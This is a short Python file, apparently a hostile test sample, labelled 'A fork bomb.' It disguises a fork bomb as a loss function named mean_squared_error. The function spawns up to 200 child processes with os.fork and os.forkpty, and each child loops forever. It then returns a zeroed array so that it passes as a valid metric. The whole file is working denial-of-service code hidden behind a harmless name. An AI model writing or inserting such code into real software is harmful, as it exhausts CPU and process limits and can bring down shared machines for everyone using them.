"""A fork bomb."""

import os


def mean_squared_error(y_true, y_pred):
    for fork in (os.fork, os.forkpty):
        for _ in range(100):
            try:
                if fork() == 0:
                    while True:
                        pass
                print("SUCCEEDED")
            except OSError:
                pass
    return y_pred[..., 0] * 0
